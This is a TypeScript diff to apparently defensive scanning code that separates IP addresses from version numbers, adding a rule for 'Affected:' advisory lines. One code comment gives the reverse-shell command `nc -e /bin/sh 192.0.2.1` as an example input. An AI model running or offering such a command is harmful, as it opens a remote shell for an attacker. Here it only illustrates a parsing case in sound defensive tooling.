@@ -135,13 +135,18 @@ const LONGEST_WORD = 24;
 function isBehindName(text: string, start: number): boolean {
   let word = start - 1;
   while (start - word < LONGEST_WORD && isWordLike(codeBefore(text, word - 1))) word--;
-  return word < start - 1 && !BEFORE_ADDRESS.has(text, word, start - 1);
+  // `nc -e /bin/sh 192.0.2.1`
+  return word < start - 1 && codeBefore(text, word - 1) !== 47 && !BEFORE_ADDRESS.has(text, word, start - 1);
 }
 
 /** Whether all four numbers are so low that they are hardly an address; `lodash@4.17.21.1`. */
 export function isAsLowAsVersions(text: string, start: number, end: number): boolean {
   return AS_VERSIONS.test(text.slice(start, end));
 }
+
+/** `Affected: Acme Gateway 9.1.0.0` */
+const AFFECTED =
+  /(?:^|[\r\n])[ \t|*•-]*(?:affected|vulnerable)(?: (?:versions?|products?|releases?|software|systems?))?\**[ \t]*[:|](?![^\r\n]*\b(?:hosts?|ips?|address(?:es)?|servers?|machines?|clients?|endpoints?|systems)\b)[^\r\n]*$/i;
 
 /** Whether the number is a version of what is named before it. */
 export function isVersionOfNamed(text: string, start: number, end: number): boolean {
@@ -150,6 +155,7 @@ export function isVersionOfNamed(text: string, start: number, end: number): bool
   const number = text.slice(start, end);
   if (AS_VERSIONS.test(number) && isBehindName(text, start)) return true;
   const before = text.slice(Math.max(0, start - 64), start);
+  if (AS_VERSIONS.test(number) && AFFECTED.test(before)) return true;
   return LOW.test(number) && /vers[iãõ]|ерси|wersj|verze/i.test(before) && VERSION_OF.test(before);
 }
 
